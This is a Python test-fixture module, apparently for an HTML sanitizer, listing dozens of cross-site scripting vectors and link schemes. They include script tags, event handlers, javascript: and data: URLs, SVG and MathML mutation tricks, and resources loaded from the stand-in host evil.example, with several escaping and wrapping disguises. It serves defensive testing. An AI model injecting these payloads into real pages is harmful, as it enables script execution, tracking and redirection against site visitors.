"""Ways to make a page act that is only meant to be read, written for these tests.

Each vector sets off ``alert`` or asks ``evil.example``; each disguise is a way in which a feed may
carry it, as it is, escaped, broken or hidden.
"""

from __future__ import annotations

import html
from collections.abc import Callable

VECTORS = (
    # scripts
    "<script>alert(1)</script>",
    "<script src=//evil.example/x.js></script>",
    "<script type=module>import('https://evil.example/x.js')</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script/x>alert(1)</script>",
    "<script\n>alert(1)</script\n>",
    "<noscript><p title='</noscript><script>alert(1)</script>'>",
    "<template><script>alert(1)</script></template>",
    # handlers
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)//",
    "<img src='x'\nonerror\n=\nalert(1)>",
    "<body onload=alert(1)>",
    "<p onmouseover=alert(1)>survol</p>",
    "<details open ontoggle=alert(1)>x</details>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<select onfocus=alert(1) autofocus>",
    "<a onclick=alert(1) href=https://exemple.fr>x</a>",
    "<div style=animation-name:x onanimationstart=alert(1)>",
    "<x contenteditable onblur=alert(1)>x</x>",
    '" onmouseover="alert(1)',
    "' onfocus='alert(1)' autofocus='",
    "`onerror=alert(1)",
    # addresses that act
    "<a href=javascript:alert(1)>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href=' \x01javascript:alert(1)'>x</a>",
    "<a href=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==>x</a>",
    "<a href=vbscript:msgbox(1)>x</a>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<embed src=//evil.example/x.swf>",
    "<object data=javascript:alert(1)></object>",
    "<form action=javascript:alert(1)><input type=submit></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<form id=f></form><button form=f formaction=//evil.example/>x</button>",
    "<isindex action=javascript:alert(1)>",
    # the page itself
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<link rel=prefetch href=//evil.example/x>",
    "<style>@import '//evil.example/x.css';</style>",
    "<style>*{background:url(//evil.example/x)}</style>",
    "<p style='background:url(//evil.example/x)'>x</p>",
    "<p style='width:expression(alert(1))'>x</p>",
    "<div style=\"-moz-binding:url('//evil.example/x')\">x</div>",
    "<img src=//evil.example/pixel.gif width=1 height=1>",
    "<img srcset='//evil.example/x 1x'>",
    "<video poster=//evil.example/x></video>",
    "<table background=//evil.example/x><td>x</td></table>",
    "<a href=https://exemple.fr ping=//evil.example/>x</a>",
    # other languages in the page
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text y=9>x</text></a></svg>",
    "<svg><animate attributeName=href values=javascript:alert(1) /><a id=x>x</a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></foreignObject></svg>",
    "<math href=javascript:alert(1)>x</math>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
    "<math><annotation-xml encoding=text/html><script>alert(1)</script></annotation-xml></math>",
    # what a second reading would bring to life
    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src onerror=alert(1)>'>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<!--><script>alert(1)</script-->",
    "<!--[if mso]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml-stylesheet href=//evil.example/x.xsl?><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><img src=x onerror=alert(1)>",
    "</td></table><script>alert(1)</script>",
    "<plaintext><script>alert(1)</script>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;img src=x onerror=alert(1)&amp;gt;",
    "&#x3c;svg onload=alert(1)&#x3e;",
    "{{ ''.__class__.__mro__ }}<img src=x onerror=alert(1)>",
    "{% raw %}<script>alert(1)</script>{% endraw %}",
    "\u202e<script>alert(1)</script>\u202c",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
)

DISGUISES: tuple[Callable[[str], str], ...] = (
    lambda vector: vector,
    lambda vector: f"<p>Un début.</p>{vector}<p>Une fin.</p>",
    html.escape,
    lambda vector: f'">{vector}<i class="',
    lambda vector: vector.upper().replace("ALERT", "alert"),
)

PAYLOADS = tuple(dict.fromkeys(disguise(one) for disguise in DISGUISES for one in VECTORS))

LINKS = (
    "javascript:alert(1)",
    "JAVASCRIPT:alert(1)//https://exemple.fr",
    "java\nscript:alert(1)",
    " javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
    "ssh://exemple.fr/",
    "blob:https://exemple.fr/x",
    "https://exemple.fr@evil.example/",
    "https://exemple.fr\\@evil.example/",
    'https://exemple.fr/"onmouseover="alert(1)',
    "https://exemple.fr/'><script>alert(1)</script>",
    "https://exemple.fr/#javascript:alert(1)",
    "//evil.example/x",
    "https://ехаmple.fr/",
)
